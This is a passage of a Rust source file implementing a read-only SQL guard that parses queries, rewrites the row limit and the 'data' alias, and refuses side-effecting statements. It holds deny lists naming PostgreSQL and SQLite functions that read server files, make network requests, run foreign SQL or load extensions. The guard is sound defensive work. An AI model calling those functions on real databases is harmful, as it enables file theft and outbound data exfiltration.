//! The read-only SQL guard: decides whether a user's SQL may run, and rewrites it for
//! execution (the `data` alias, the row limit).
//!
//! The guard is the first of two walls. The connector runs what the guard returns inside a
//! read-only transaction with timeouts, so a write that slips past here still fails on the
//! server. The guard exists for what a read-only transaction does NOT stop (signalling other
//! backends, advisory locks, server files, dblink, configuration, WAL and slot control) and
//! to give the user a precise refusal instead of a server error.
//!
//! Every decision is made on sqlparser's tree, never on text: the tree is checked with a
//! [`Visitor`] that sees every node at every depth. What runs is the user's own text, so
//! comments and formatting reach the server's logs and its error positions can be mapped
//! back ([`super::splice`]); it is changed only at the token spans the parser reports (the
//! `data` table reference, the row limit), and the changed text is parsed, checked once
//! more and must parse to the rewritten tree before it is returned. That the server reads
//! the text as sqlparser did rests on their tokenizers agreeing; the cases where they could
//! not (`U&"…"` identifiers) are refused, and the guard's tests pin the others (nested
//! comments, comments ended by CR, `E''`/`U&''` strings, `$` in identifiers). MySQL's own
//! lexical traps (executable comments, backslash escapes) are in [`mysql`].

use std::collections::{BTreeSet, HashMap};
use std::ops::ControlFlow;

use sqlparser::ast::{
    AccessExpr, BinaryOperator, DescribeAlias, Expr, FunctionArgumentList, FunctionArguments,
    Ident, LimitClause, ObjectName, ObjectNamePart, Query, Select, SetExpr, Statement, TableAlias,
    TableFactor, UnaryOperator, Value, Visit, VisitMut, Visitor, VisitorMut,
};
use sqlparser::dialect::{
    ClickHouseDialect, DuckDbDialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect,
};
use sqlparser::keywords::Keyword;
use sqlparser::parser::{Parser, ParserError};
use sqlparser::tokenizer::{Location, Span, Token, TokenWithSpan, Tokenizer, Whitespace};

use super::error::{Error, Result};
use super::splice::{self, Edit, LineIndex, PositionMap};

mod clickhouse;
mod duckdb;
mod lexical;
mod mysql;

pub use clickhouse::CLICKHOUSE_DENIED;
pub use duckdb::DUCKDB_DENIED;
pub use mysql::MYSQL_DENIED;

/// The SQL dialect a source speaks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    Postgres,
    Sqlite,
    /// MySQL and MariaDB.
    MySql,
    ClickHouse,
    /// The file kinds' engine.
    DuckDb,
}

/// How the guard checks a kind's SQL: the parser's dialect and the functions refused
/// wherever they are called.
#[derive(Debug, Clone, Copy)]
pub struct GuardPolicy {
    pub dialect: Dialect,
    pub denied: &'static [DeniedFamily],
}

/// A table the `data` alias resolves to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TableName {
    pub schema: Option<String>,
    pub name: String,
}

pub const MAX_SQL_CHARS: usize = 10_000;
pub const MAX_LIMIT: usize = 1000;
pub const DEFAULT_LIMIT: usize = 100;

/// SQL the guard accepted, rewritten for execution.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Guarded {
    /// The user's own text, changed only where it must be: `data` resolved, `LIMIT limit+1`
    /// added when the query had no limit of its own, trailing `;` and comments dropped.
    pub executed_sql: String,
    /// The request's row limit; the connector reads at most `limit + 1` rows so it can tell
    /// whether the result was truncated (`usize::MAX`: [`guard_unlimited`], no limit).
    pub limit: usize,
    /// Every function, operator and cast the executed SQL names, for the connector to resolve
    /// on the server: which object a name reaches depends on the server's catalog and
    /// search_path, which only the server knows.
    pub calls: Calls,
    /// Takes an error position in `executed_sql` back to the text the user wrote.
    pub positions: PositionMap,
}

/// What a statement may execute besides reading: the names it calls, as the server will
/// look them up (unquoted names folded to lower case, as PostgreSQL does; in MySQL every
/// function name, quoted or not, since its function names ignore case).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Calls {
    pub functions: BTreeSet<FunctionCall>,
    pub operators: BTreeSet<OperatorUse>,
    /// Target types of casts and typed literals, as written (`integer`, `public.hstore`).
    pub casts: BTreeSet<String>,
}

/// One function name the statement may call.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct FunctionCall {
    /// The schema it was qualified with, if any.
    pub schema: Option<String>,
    pub name: String,
    /// How many arguments it was given; `None` when the syntax does not say.
    pub args: Option<usize>,
    /// Written as `x.name`: PostgreSQL calls `name(x)` there when `x` is a row and has no
    /// column of that name, so every qualified column reference is a possible call (not
    /// noted for MySQL, which has no such notation).
    pub field_notation: bool,
}

/// One operator the statement uses.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct OperatorUse {
    /// From `OPERATOR(schema.op)`.
    pub schema: Option<String>,
    pub symbol: String,
}

/// Comparisons that SQL uses without writing them (`IN`, `BETWEEN`, `CASE x WHEN`, `NULLIF`,
/// `IS DISTINCT FROM`, `ANY`/`ALL`): always resolved, so an operator defined over built-in
/// types is caught however it is reached.
pub const IMPLICIT_OPERATORS: [&str; 6] = ["=", "<>", "<", ">", "<=", ">="];

/// The seed's refusal of anything that is not a query.
pub const ONLY_SELECT: &str = "Only SELECT statements are allowed";

/// `TABLE name` works only at the start of the statement (see [`expand_table_command`]).
const TABLE_ONLY_ALONE: &str =
    "TABLE is only supported at the start of the statement; write SELECT * FROM … instead";

/// A group of functions the guard refuses wherever they are called, named in the refusal
/// so the user learns why (`… calls pg_terminate_backend (backend signalling)`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeniedFamily {
    pub family: &'static str,
    /// Lower-case function names; a trailing `*` makes the entry a prefix.
    pub functions: &'static [&'static str],
}

/// Functions with effects beyond reading, kept as data so a reviewer can read the whole
/// policy in one place.
///
/// Names are matched on the last part of the called name (so `pg_catalog.nextval` and
/// `x.nextval` both match), ASCII case-insensitively, quoted or not. In PostgreSQL a quoted
/// `"NEXTVAL"` is a different function from `nextval`; refusing it too costs nothing real
/// and keeps the rule simple.
///
/// Deliberately NOT listed: `pg_sleep`, `pg_sleep_for`, `pg_sleep_until`. They only hold a
/// read-only snapshot, exactly like any slow query, and the connector's
/// `statement_timeout` bounds them; tests also need them to exercise cancel and timeouts.
/// Read-only functions (`currval`, `lastval`, `current_setting`, `pg_current_logfile`) are
/// allowed. Extension functions are listed where their effect escapes the read-only
/// transaction (dblink, pg_background, aws_s3, http). Only call syntax is checked:
/// PostgreSQL's field notation (`x.f` for `f(x)`) works only on a composite argument, which
/// no listed function takes.
pub const POSTGRES_DENIED: &[DeniedFamily] = &[
    DeniedFamily {
        family: "backend signalling",
        functions: &[
            "pg_cancel_backend",
            "pg_terminate_backend",
            "pg_signal_backend",
            "pg_log_backend_memory_contexts",
        ],
    },
    DeniedFamily {
        family: "configuration setters",
        functions: &["set_config", "pg_reload_conf", "set_limit"],
    },
    DeniedFamily {
        family: "advisory locks",
        functions: &["pg_advisory_*", "pg_try_advisory_*"],
    },
    DeniedFamily {
        family: "large objects",
        functions: &["lo_*", "loread", "lowrite"],
    },
    DeniedFamily {
        family: "server files and programs",
        functions: &[
            "pg_read_file",
            "pg_read_binary_file",
            "pg_ls_*",
            "pg_stat_file",
            "pg_file_*",
            "pg_logdir_ls",
        ],
    },
    DeniedFamily {
        family: "dblink and foreign execution",
        functions: &[
            "dblink*",
            "query_to_xml",
            "query_to_xml_and_xmlschema",
            "query_to_xmlschema",
            "cursor_to_xml",
            "cursor_to_xmlschema",
            // ts_stat and the two-argument ts_rewrite run a SQL string given as text.
            "ts_stat",
            "ts_rewrite",
            "pg_background_*",
            "query_export_to_s3",
            "table_import_from_s3",
        ],
    },
    DeniedFamily {
        family: "network requests",
        functions: &["http", "http_*"],
    },
    DeniedFamily {
        family: "replication slots and WAL/log control",
        functions: &[
            "pg_create_physical_replication_slot",
            "pg_create_logical_replication_slot",
            "pg_copy_physical_replication_slot",
            "pg_copy_logical_replication_slot",
            "pg_drop_replication_slot",
            "pg_replication_slot_advance",
            "pg_sync_replication_slots",
            "pg_logical_slot_*",
            "pg_logical_emit_message",
            "pg_replication_origin_*",
            "pg_switch_wal",
            "pg_switch_xlog",
            "pg_start_backup",
            "pg_stop_backup",
            "pg_backup_start",
            "pg_backup_stop",
            "pg_create_restore_point",
            "pg_promote",
            "pg_wal_replay_*",
            "pg_xlog_replay_*",
            "pg_rotate_logfile*",
            "pg_log_standby_snapshot",
        ],
    },
    DeniedFamily {
        // Each call assigns a transaction id even in a read-only transaction, using up
        // the server's xid space and writing WAL; snapshot export writes a file.
        family: "transaction ids and snapshots",
        functions: &["txid_current", "pg_current_xact_id", "pg_export_snapshot"],
    },
    DeniedFamily {
        family: "notify",
        functions: &["pg_notify"],
    },
    DeniedFamily {
        family: "sequences",
        functions: &["nextval", "setval"],
    },
    DeniedFamily {
        family: "statistics reset",
        functions: &[
            "pg_stat_reset*",
            "pg_stat_statements_reset",
            "pg_qualstats_reset",
        ],
    },
    DeniedFamily {
        family: "catalog and index maintenance",
        functions: &[
            "pg_import_system_collations",
            "brin_summarize_new_values",
            "brin_summarize_range",
            "brin_desummarize_range",
            "gin_clean_pending_list",
        ],
    },
];

/// SQLite's functions that reach beyond the database: the shell's and extensions' file
/// functions, loading code, SQL run from a string, and the internal schema rewriters.
pub const SQLITE_DENIED: &[DeniedFamily] = &[
    DeniedFamily {
        family: "SQLite files and extensions",
        functions: &[
            "load_extension",
            "readfile",
            "writefile",
            "edit",
            "fsdir",
            "lsdir",
            "zipfile",
            "fts3_tokenizer",
            "sqlite_rename_*",
            "sqlite_drop_column",
        ],
    },
    DeniedFamily {
        family: "dblink and foreign execution",
        // SQLite's eval extension runs SQL strings.
        functions: &["eval"],
    },
];

/// The family of `denied` that refuses `name` (the last part of a called name), if any.
pub fn denied_family(denied: &'static [DeniedFamily], name: &str) -> Option<&'static str> {
    let name = name.to_ascii_lowercase();
    denied
        .iter()
        .find(|family| {
            family
                .functions
                .iter()
                .any(|pattern| match pattern.strip_suffix('*') {
                    Some(prefix) => name.starts_with(prefix),
                    None => name == *pattern,
                })
        })
        .map(|family| family.family)
}

/// Checks a row limit from the command line or the UI, where it can be any integer.
pub fn check_limit(limit: i64) -> Result<usize> {
    match usize::try_from(limit) {
        Ok(n) if (1..=MAX_LIMIT).contains(&n) => Ok(n),
        _ => Err(limit_error(limit)),
    }
}

fn limit_error(limit: impl std::fmt::Display) -> Error {
    Error::Invalid(format!("limit: must be from 1 to {MAX_LIMIT}, got {limit}"))
}

fn refuse(detail: impl std::fmt::Display) -> Error {
    Error::rejected(detail)
}

/// Checks `sql` and returns it rewritten for execution, or the refusal to show the user.
///
/// `data_table` is the table behind the `data` alias (`None` leaves `data` alone, for
/// sources without one). `limit` is the request's row limit, 1 to [`MAX_LIMIT`].
pub fn guard(
    sql: &str,
    policy: &GuardPolicy,
    data_table: Option<&TableName>,
    limit: usize,
) -> Result<Guarded> {
    if !(1..=MAX_LIMIT).contains(&limit) {
        return Err(limit_error(limit));
    }
    guard_with(sql, policy, data_table, Some(limit))
}

/// [`guard`] for a statement whose rows are read a batch at a time, as many as there are
/// (`tdb query --all`, the results pane fetching page after page): the same checks, and no
/// `LIMIT` added; [`Guarded::limit`] is `usize::MAX`.
pub fn guard_unlimited(
    sql: &str,
    policy: &GuardPolicy,
    data_table: Option<&TableName>,
) -> Result<Guarded> {
    guard_with(sql, policy, data_table, None)
}

fn guard_with(
    sql: &str,
    policy: &GuardPolicy,
    data_table: Option<&TableName>,
    limit: Option<usize>,
) -> Result<Guarded> {
    let dialect = policy.dialect;
    check_text(sql)?;
    let parsed = match parse_one_query(sql, dialect) {
        Ok(parsed) => parsed,
        // What sqlparser cannot read may still be a query PostgreSQL reads: checked over
        // its tokens (see `lexical`), or refused with the parser's words.
        Err(e) if dialect == Dialect::Postgres && e.detail().starts_with(UNPARSED) => {
            return lexical::guard(sql, policy.denied, data_table, limit).unwrap_or(Err(e));
        }
        Err(e) => return Err(e),
    };
    check_statement(&parsed.statement, policy)?;
    let index = LineIndex::new(sql);
    let keep = parsed
        .end
        .and_then(|end| index.byte(end))
        .ok_or_else(|| refuse("no SQL statement found"))?;

    // The tree the server must end up parsing: the checked one, rewritten.
    let Parsed {
        statement: mut expected,
        tokens,
        table_command,
        ..
    } = parsed;
    let mut edits = Vec::new();
    if let (Some(table), Some(query)) = (data_table, inner_query_mut(&mut expected)) {
        for site in resolve_data_alias(query, dialect, table, !table_command) {
            let (Some(start), Some(end)) = (index.byte(site.span.start), index.byte(site.span.end))
            else {
                return Err(refuse(UNSPLICEABLE));
            };
            let mut text = target_text(table, dialect);
            if site.add_alias {
                text.push_str(" AS ");
                text.push_str(&sql[start..end]);
            }
            edits.push(Edit { start, end, text });
        }
    }
    // `DESCRIBE data`, `SHOW CREATE TABLE data` and `SHOW COLUMNS FROM data` name the
    // source's table too.
    if let (Some(table), Some(name)) = (data_table, described_table_mut(&mut expected))
        && let [ObjectNamePart::Identifier(ident)] = name.0.as_slice()
        && is_data_ident(ident, dialect)
    {
        let (Some(start), Some(end)) = (index.byte(ident.span.start), index.byte(ident.span.end))
        else {
            return Err(refuse(UNSPLICEABLE));
        };
        edits.push(Edit {
            start,
            end,
            text: target_text(table, dialect),
        });
        *name = target_name(table, dialect);
    }
    // EXPLAIN and SHOW get no LIMIT (it would change the plan shown); the connector reads
    // at most `limit + 1` rows of any statement.
    let limited = match (&mut expected, limit) {
        (Statement::Query(query), Some(limit)) => apply_limit(query, dialect, limit),
        _ => false,
    };
    if let (true, Some(limit)) = (limited, limit) {
        let wanted = (limit + 1).to_string();
        // sqlparser's tree has no trace of `LIMIT ALL`, so the tokens decide: a top-level
        // LIMIT gets the number as its value; without one, the limit goes before a top-level
        // OFFSET (SQLite accepts no other order) or at the end.
        let edit = match top_level_clause(&tokens, Keyword::LIMIT) {
            Some((start, end)) => index
                .byte(start)
                .zip(index.byte(end))
                .map(|(start, end)| Edit {
                    start,
                    end,
                    text: wanted.clone(),
                }),
            None => match top_level_keyword(&tokens, Keyword::OFFSET) {
                Some(offset) => index.byte(offset).map(|start| Edit {
                    start,
                    end: start,
                    text: format!("LIMIT {wanted} "),
                }),
                None => Some(Edit {
                    start: keep,
                    end: keep,
                    text: format!(" LIMIT {wanted}"),
                }),
            },
        };
        edits.push(edit.ok_or_else(|| refuse(UNSPLICEABLE))?);
    }
    edits.sort_by_key(|e| (e.start, e.end));
    let (executed_sql, positions) = splice::apply(sql, keep, &edits);

    // What runs is the spliced text, so it must pass the same checks as the input did and
    // parse to the rewritten tree. (Printed, not tree, equality: comparing trees recurses
    // deeper than the stack allows on long flat chains, and spans differ.)
    let reparsed = parse_one_query(&executed_sql, dialect)?;
    let calls = check_statement(&reparsed.statement, policy)?;
    if reparsed.statement.to_string() != expected.to_string() {
        return Err(refuse(UNSPLICEABLE));
    }
    Ok(Guarded {
        executed_sql,
        limit: limit.unwrap_or(usize::MAX),
        calls,
        positions,
    })
}

const UNSPLICEABLE: &str =
    "the SQL could not be rewritten for execution (the data alias or the row limit)";

/// Where the last `keyword` outside parentheses starts.
fn top_level_keyword(tokens: &[TokenWithSpan], keyword: Keyword) -> Option<Location> {
    top_level_index(tokens, keyword).map(|i| tokens[i].span.start)
}

fn top_level_index(tokens: &[TokenWithSpan], keyword: Keyword) -> Option<usize> {
    let mut depth = 0i64;
    let mut found = None;
    for (i, t) in tokens.iter().enumerate() {
        match &t.token {
            Token::LParen | Token::LBracket => depth += 1,
            Token::RParen | Token::RBracket => depth -= 1,
            Token::Word(w) if depth == 0 && w.keyword == keyword && w.quote_style.is_none() => {
                found = Some(i);
            }
            _ => {}
        }
    }
    found
}

/// The span of the value of the last top-level `keyword` clause (`LIMIT ALL`, `LIMIT
/// NULL`, `LIMIT -1`): up to the next `OFFSET`/`FETCH`/`;` outside parentheses or the
/// statement's end.
fn top_level_clause(tokens: &[TokenWithSpan], keyword: Keyword) -> Option<(Location, Location)> {
    let mut depth = 0i64;
    let mut value: Option<(Location, Location)> = None;
    for t in &tokens[top_level_index(tokens, keyword)? + 1..] {
        match &t.token {
            Token::Whitespace(_) => continue,
            Token::EOF | Token::SemiColon if depth == 0 => break,
            Token::Word(w)
                if depth == 0
                    && w.quote_style.is_none()
                    && matches!(w.keyword, Keyword::OFFSET | Keyword::FETCH) =>
            {
                break;
            }
            Token::LParen | Token::LBracket => depth += 1,
            Token::RParen | Token::RBracket => depth -= 1,
            _ => {}
        }
        value = Some((value.map_or(t.span.start, |v| v.0), t.span.end));
    }
    value
}

/// Size and NUL checks come before parsing so a huge or binary input costs nothing.
fn check_text(sql: &str) -> Result<()> {
    let chars = sql.chars().count();
    if chars > MAX_SQL_CHARS {
        return Err(refuse(format!(
            "the SQL is {chars} characters long; at most {MAX_SQL_CHARS} are allowed"
        )));
    }
    if sql.contains('\0') {
        return Err(refuse("the SQL contains a NUL character"));
    }
    Ok(())
}

pub(crate) fn parser_dialect(dialect: Dialect) -> &'static dyn sqlparser::dialect::Dialect {
    match dialect {
        Dialect::Postgres => &PostgreSqlDialect {},
        Dialect::Sqlite => &SQLiteDialect {},
        Dialect::MySql => &MySqlDialect {},
        Dialect::ClickHouse => &ClickHouseDialect {},
        Dialect::DuckDb => &DuckDbDialect {},
    }
}

/// How every refusal for SQL sqlparser could not read begins.
const UNPARSED: &str = "SQL validation failed: could not parse SQL: ";

fn parse_error(err: ParserError) -> Error {
    let detail = match err {
        ParserError::TokenizerError(s) | ParserError::ParserError(s) => s,
        // Not a shape sqlparser lacks: too deep to read, over tokens too.
        ParserError::RecursionLimitExceeded => return refuse("the SQL is nested too deeply"),
    };
    Error::Invalid(format!("{UNPARSED}{detail}"))
}

/// A statement parsed from the user's text, with the tokens its spans point into: a query,
/// `EXPLAIN` of a query, or `SHOW name`.
struct Parsed {
    statement: Statement,
    tokens: Vec<TokenWithSpan>,
    /// Where the statement's last token ends (before trailing `;`, blanks and comments).
    end: Option<Location>,
    /// Written as `TABLE name …`, which takes no alias.
    table_command: bool,
}

/// Parses `sql` into exactly one query (`SELECT`, `WITH … SELECT`, `VALUES`, a set
/// operation, or `TABLE name …`).
fn parse_one_query(sql: &str, dialect: Dialect) -> Result<Parsed> {
    let parser_dialect = parser_dialect(dialect);
    let mut tokens = Tokenizer::new(parser_dialect, sql)
        .with_unescape(true)
        .tokenize_with_location()
        .map_err(|e| refuse(format!("could not parse SQL: {e}")))?;
    match dialect {
        Dialect::Postgres => reject_unicode_identifiers(&tokens)?,
        Dialect::MySql => mysql::check_tokens(sql, &tokens)?,
        Dialect::Sqlite | Dialect::ClickHouse | Dialect::DuckDb => {}
    }
    let end = tokens
        .iter()
        .rev()
        .find(|t| !is_trivia(&t.token) && t.token != Token::SemiColon)
        .map(|t| t.span.end);
    let table_command = expand_table_command(&mut tokens);
    match dialect {
        Dialect::Postgres => drop_noise_words(&mut tokens),
        Dialect::ClickHouse => clickhouse::drop_final_modifiers(&mut tokens),
        Dialect::Sqlite | Dialect::MySql | Dialect::DuckDb => {}
    }
    let first = first_keyword(&tokens);
    let mut statements = match Parser::new(parser_dialect)
        .with_tokens_with_locations(tokens.clone())
        .parse_statements()
    {
        Ok(statements) => statements,
        // A statement sqlparser cannot parse (`VACUUM (…)`, `LISTEN`, PL/pgSQL `DO`) is
        // still not a query: say so with the seed's message rather than a syntax error.
        // (For MySQL, what is not a read was refused before parsing.)
        Err(_) if dialect != Dialect::MySql && !opens_a_query(first) => {
            return Err(not_a_query(dialect, &tokens));
        }
        Err(e) => return Err(parse_error(e)),
    };
    let statement = match statements.len() {
        0 => {
            return Err(refuse(
                "no SQL statement found (only whitespace, comments or semicolons)",
            ));
        }
        1 => statements.remove(0),
        n => {
            return Err(refuse(format!(
                "multiple statements are not allowed (found {n}); send one SELECT"
            )));
        }
    };
    // `EXPLAIN ANALYZE` runs its query, in the same read-only transaction, so it gets the
    // same checks as the query alone; SHOW reads one setting, as current_setting() does.
    // MySQL's SHOW and DESCRIBE read the catalog and the server's state, never write
    // (`DESCRIBE SELECT …` is EXPLAIN there).
    let allowed = match &statement {
        Statement::Explain {
            describe_alias,
            statement: inner,
            ..
        } => {
            matches!(**inner, Statement::Query(_))
                && (*describe_alias == DescribeAlias::Explain || dialect == Dialect::MySql)
        }
        Statement::ShowVariable { .. } if dialect == Dialect::Postgres => true,
        Statement::ShowVariable { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowStatus { .. }
        | Statement::ShowCreate { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowSchemas { .. }
        | Statement::ShowTables { .. }
        | Statement::ShowViews { .. }
        | Statement::ShowCollation { .. }
        | Statement::ShowCharset(_)
        | Statement::ShowProcessList { .. }
        | Statement::ExplainTable { .. }
            if dialect == Dialect::MySql =>
        {
            mysql::check_show(&tokens)?;
            true
        }
        // DESCRIBE and SHOW TABLES read the catalog.
        Statement::ExplainTable { .. } | Statement::ShowTables { .. }
            if dialect == Dialect::ClickHouse =>
        {
            true
        }
        Statement::Query(_) => true,
        _ => false,
    };
    // `WITH x AS (…) DELETE …` parses as a query whose body is the DELETE.
    if !allowed || inner_query(&statement).is_some_and(|q| write_kind(&q.body).is_some()) {
        return Err(not_a_query(dialect, &tokens));
    }
    Ok(Parsed {
        statement,
        tokens,
        end,
        table_command,
    })
}

/// The seed's refusal of a statement that is not a query; for MySQL it names the statement.
fn not_a_query(dialect: Dialect, tokens: &[TokenWithSpan]) -> Error {
    match dialect {
        Dialect::MySql => mysql::not_a_query(tokens),
        Dialect::Postgres | Dialect::Sqlite | Dialect::ClickHouse | Dialect::DuckDb => {
            refuse(ONLY_SELECT)
        }
    }
}

/// The table a MySQL `DESCRIBE t`, `SHOW CREATE TABLE t` or `SHOW COLUMNS FROM t` names.
fn described_table_mut(statement: &mut Statement) -> Option<&mut ObjectName> {
    match statement {
        Statement::ExplainTable { table_name, .. } => Some(table_name),
        Statement::ShowCreate { obj_name, .. } => Some(obj_name),
        Statement::ShowColumns { show_options, .. } => show_options
            .show_in
            .as_mut()
            .and_then(|show_in| show_in.parent_name.as_mut()),
        _ => None,
    }
}

/// The query a statement the guard accepts reads through (none for SHOW).
fn inner_query(statement: &Statement) -> Option<&Query> {
    match statement {
        Statement::Query(query) => Some(query),
        Statement::Explain { statement, .. } => inner_query(statement),
        _ => None,
    }
}

fn inner_query_mut(statement: &mut Statement) -> Option<&mut Query> {
    match statement {
        Statement::Query(query) => Some(query),
        Statement::Explain { statement, .. } => inner_query_mut(statement),
        _ => None,
    }
}

fn is_trivia(token: &Token) -> bool {
    matches!(token, Token::Whitespace(_) | Token::EOF)
}

/// The keyword the SQL starts with: `Some(Keyword::NoKeyword)` for a non-keyword word,
/// `None` for anything else (a parenthesis, or no token at all).
fn first_keyword(tokens: &[TokenWithSpan]) -> Option<Keyword> {
    let first = tokens
        .iter()
        .map(|t| &t.token)
        .find(|t| !is_trivia(t) && **t != Token::SemiColon);
    match first {
        Some(Token::Word(w)) => Some(w.keyword),
        Some(Token::LParen) | None => None,
        Some(_) => Some(Keyword::NoKeyword),
    }
}

/// Whether SQL starting this way is meant as a query, so a parse error in it is a syntax
/// error to show rather than some other statement to refuse.
fn opens_a_query(first: Option<Keyword>) -> bool {
    matches!(
        first,
        None | Some(
            Keyword::SELECT | Keyword::WITH | Keyword::VALUES | Keyword::TABLE | Keyword::EXPLAIN
        )
    )
}

/// PostgreSQL reads `U&"\0061"` as one identifier with escapes; sqlparser reads `U & "…"`,
/// an operator and a differently named identifier. Refuse rather than check a name that is
/// not the one the server would see.
fn reject_unicode_identifiers(tokens: &[TokenWithSpan]) -> Result<()> {
    for window in tokens.windows(3) {
        if let [
            TokenWithSpan {
                token: Token::Word(u),
                ..
            },
            TokenWithSpan {
                token: Token::Ampersand,
                ..
            },
            TokenWithSpan {
                token: Token::Word(quoted),
                ..
            },
        ] = window
            && u.quote_style.is_none()
            && u.value.eq_ignore_ascii_case("u")
            && quoted.quote_style.is_some()
        {
            return Err(refuse(
                "Unicode-escaped identifiers (U&\"…\") are not supported",
            ));
        }
    }
    Ok(())
}

/// sqlparser 0.63 cannot parse a statement-level `TABLE name`, which PostgreSQL and SQLite
/// define to mean `SELECT * FROM name`, so the parser is given those tokens instead (in the
/// `TABLE` token's place, so spans still point into the written text). The text sent keeps
/// `TABLE`. Returns whether the statement was written that way.
fn expand_table_command(tokens: &mut Vec<TokenWithSpan>) -> bool {
    let Some(i) = tokens
        .iter()
        .position(|t| !is_trivia(&t.token) && t.token != Token::SemiColon)
    else {
        return false;
    };
    match &tokens[i].token {
        Token::Word(w) if w.keyword == Keyword::TABLE && w.quote_style.is_none() => {}
        _ => return false,
    }
    let span = tokens[i].span;
    let word = |s: &str| TokenWithSpan::new(Token::make_keyword(s), span);
    let space = || TokenWithSpan::new(Token::Whitespace(Whitespace::Space), span);
    tokens.splice(
        i..=i,
        [
            word("SELECT"),
            space(),
            TokenWithSpan::new(Token::Mul, span),
            space(),
            word("FROM"),
        ],
    );
    true
}

/// Words PostgreSQL reads that change nothing the guard checks but that sqlparser 0.63
/// misreads or cannot parse, removed from what the parser is shown (the text sent keeps
/// them). Each is a reserved word in PostgreSQL's grammar, or UESCAPE right after a U&
/// string, so the server reads it exactly so; none can hide a call or a table:
///
/// - `FROM ONLY t` / `JOIN ONLY t` / `, ONLY t` (sqlparser reads a table named ONLY aliased
///   t): the plain `t` reads a superset of the same table's rows;
/// - `BETWEEN SYMMETRIC` / `BETWEEN ASYMMETRIC`: the same operands and comparisons;
/// - `GROUP BY DISTINCT` / `GROUP BY ALL`: the same grouping expressions;
/// - `FOR READ ONLY`: a locking clause that locks nothing;
/// - `U&'…' UESCAPE '!'`: the escape character of a string literal, which stays a literal.
fn drop_noise_words(tokens: &mut Vec<TokenWithSpan>) {
    fn keyword(t: &Token) -> Option<Keyword> {
        match t {
            Token::Word(w) if w.quote_style.is_none() => Some(w.keyword),
            _ => None,
        }
    }
    // Indexes of the significant tokens, to look back and ahead past whitespace.
    let significant: Vec<usize> = (0..tokens.len())
        .filter(|&i| !is_trivia(&tokens[i].token))
        .collect();
    let mut drop = vec![false; tokens.len()];
    for (k, &i) in significant.iter().enumerate() {
        let at = |offset: isize| {
            k.checked_add_signed(offset)
                .and_then(|j| significant.get(j))
                .map(|&j| &tokens[j].token)
        };
        let kw = keyword(&tokens[i].token);
        let before = at(-1).and_then(keyword);
        let noise = match kw {
            Some(Keyword::ONLY) => {
                matches!(before, Some(Keyword::FROM | Keyword::JOIN))
                    || at(-1) == Some(&Token::Comma)
            }
            Some(Keyword::SYMMETRIC | Keyword::ASYMMETRIC) => before == Some(Keyword::BETWEEN),
            Some(Keyword::DISTINCT | Keyword::ALL) => {
                before == Some(Keyword::BY) && at(-2).and_then(keyword) == Some(Keyword::GROUP)
            }
            Some(Keyword::FOR) => {
                at(1).and_then(keyword) == Some(Keyword::READ)
                    && at(2).and_then(keyword) == Some(Keyword::ONLY)
            }
            Some(Keyword::UESCAPE) => {
                matches!(at(-1), Some(Token::UnicodeStringLiteral(_)))
                    && matches!(at(1), Some(Token::SingleQuotedString(_)))
            }
            _ => false,
        };
        if noise {
            drop[i] = true;
            match kw {
                Some(Keyword::FOR) => {
                    for j in [k + 1, k + 2] {
                        drop[significant[j]] = true;
                    }
                }
                Some(Keyword::UESCAPE) => drop[significant[k + 1]] = true,
                _ => {}
            }
        }
    }
    let mut i = 0;
    tokens.retain(|_| {
        i += 1;
        !drop[i - 1]
    });
}

/// What an accepted statement calls: its query's, or none for SHOW and DESCRIBE (which
/// [`mysql::check_show`] keeps free of calls).
fn check_statement(statement: &Statement, policy: &GuardPolicy) -> Result<Calls> {
    match inner_query(statement) {
        Some(query) => check_query(query, policy),
        None => Ok(Calls::default()),
    }
}

/// Walks the whole tree, refuses anything that is not a plain read, and returns what the
/// statement calls.
fn check_query(query: &Query, policy: &GuardPolicy) -> Result<Calls> {
    let mut checker = Checker {
        dialect: policy.dialect,
        denied: policy.denied,
        calls: Calls::default(),
    };
    match query.visit(&mut checker) {
        ControlFlow::Continue(()) => Ok(checker.calls),
        ControlFlow::Break(err) => Err(err),
    }
}

/// The read-only rules, applied at every depth: CTEs, subqueries in any clause, FROM and
/// LATERAL, set operation branches.
struct Checker {
    dialect: Dialect,
    denied: &'static [DeniedFamily],
    calls: Calls,
}

impl Checker {
    /// The name as the server looks it up: PostgreSQL folds unquoted names to lower case.
    fn lookup_name(&self, ident: &Ident) -> String {
        match (self.dialect, ident.quote_style) {
            (Dialect::Postgres, None) => ident.value.to_ascii_lowercase(),
            _ => ident.value.clone(),
        }
    }

    /// A function's name as the server looks it up: MySQL's function names ignore case,
    /// quoted or not (its database names do not).
    fn function_name(&self, ident: &Ident) -> String {
        match self.dialect {
            // DuckDB's names ignore case too, quoted or not.
            Dialect::MySql | Dialect::DuckDb => ident.value.to_lowercase(),
            Dialect::Postgres | Dialect::Sqlite | Dialect::ClickHouse => self.lookup_name(ident),
        }
    }

    fn check_function_name(
        &mut self,
        name: &ObjectName,
        args: Option<usize>,
    ) -> ControlFlow<Error> {
        let mut idents = Vec::with_capacity(name.0.len());
        for part in &name.0 {
            match part {
                ObjectNamePart::Identifier(ident) => idents.push(ident),
                // A name computed by a function (IDENTIFIER(…)) cannot be judged.
                ObjectNamePart::Function(_) => {
                    return ControlFlow::Break(refuse(format!(
                        "the query calls a function with a computed name ({name})"
                    )));
                }
            }
        }
        let Some(last) = idents.last() else {
            return ControlFlow::Break(refuse("the query calls a function without a name"));
        };
        if let Some(family) = denied_family(self.denied, &last.value) {
            return ControlFlow::Break(refuse(format!("the query calls {name} ({family})")));
        }
        let schema = match idents.as_slice() {
            [.., schema, _] => Some(self.lookup_name(schema)),
            _ => None,
        };
        self.calls.functions.insert(FunctionCall {
            schema,
            name: self.function_name(last),
            args,
            field_notation: false,
        });
        ControlFlow::Continue(())
    }

    /// `x.name`, a column or, for a row `x`, the call `name(x)` (not in MySQL).
    fn note_field_access(&mut self, ident: &Ident) {
        if matches!(
            self.dialect,
